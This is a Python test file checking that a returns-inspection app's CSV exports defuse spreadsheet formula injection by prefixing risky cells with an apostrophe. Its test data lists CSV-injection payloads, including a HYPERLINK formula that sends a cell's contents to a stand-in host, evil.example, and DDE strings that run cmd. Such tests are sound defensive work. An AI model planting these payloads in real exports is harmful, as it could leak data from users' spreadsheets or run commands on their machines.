"""A CSV the project writes never makes a spreadsheet run a formula: a cell that starts as
one (=, +, -, @, tab, carriage return) is written with a leading apostrophe (OWASP's rule),
on the server (the audit export) and on the bench (the lead's tables, the returns export)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from server.builders import make_return

from inspector_app.csv_cells import guard_cell, unguard_cell
from inspector_app.records.returns_io import parse_returns_csv, write_returns_csv

ATTACKS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_inert(text: str, attacks=ATTACKS) -> None:
    cells = _cells(text)
    for attack in attacks:
        assert "'" + attack in cells, attack
    assert not [c for c in cells if c.startswith(DANGEROUS_START)]


def test_server_audit_export_neutralises_cells(server):
    for attack in ATTACKS:
        server.client.post(
            "/api/v1/lead/sessions",
            json={"badge": attack[:64], "pin": "000000"},
            headers=server.auth(),
        )
    today = dt.datetime.now(dt.UTC).date().isoformat()
    answer = server.client.get(
        "/api/v1/lead/audit/export",
        params={"date_from": today, "date_to": today},
        headers=server.auth("lead"),
    )
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    _assert_inert(answer.text)


def test_bench_returns_export_neutralises_and_reads_back():
    returns = [make_return(n, customer_name=attack) for n, attack in enumerate(ATTACKS, 1)]
    out = io.StringIO()
    write_returns_csv(returns, out)
    _assert_inert(out.getvalue())
    back = parse_returns_csv(out.getvalue())
    assert [r.customer_name for r in back.returns] == list(ATTACKS)


def test_plain_numbers_and_text_are_left_alone():
    for value in ("-12.50", "+3.5", "1234", "Marie D.", "'quoted", "", "a=b"):
        assert guard_cell(value) == value
        assert unguard_cell(guard_cell(value)) == value
    for value in (*ATTACKS, "'=1", "''+1"):
        assert unguard_cell(guard_cell(value)) == value


@pytest.mark.gui
def test_lead_tables_neutralise_cells(qapp):
    from inspector_app.gui.lead.columns import REVIEW
    from inspector_app.gui.lead.table import RowsModel
    from inspector_app.wire import FlaggedInspection

    model = RowsModel(REVIEW)
    model.set_rows(
        [
            FlaggedInspection(
                uuid=f"00000000-0000-4000-8000-00000000000{n}",
                return_id="RET-1",
                model=attack[:200],
                reason="withdrawal",
                station="bench-1",
                inspector="badge-0042",
                finalized_at=dt.datetime(2026, 11, 26, 12, tzinfo=dt.UTC),
                outcome="partial_refund",
                disposition="restock",
                refund_amount=Decimal("10.00"),
                flags=[],
                overridden=True,
                override_reason=attack,
            )
            for n, attack in enumerate(ATTACKS)
        ]
    )
    _assert_inert(model.csv_text())
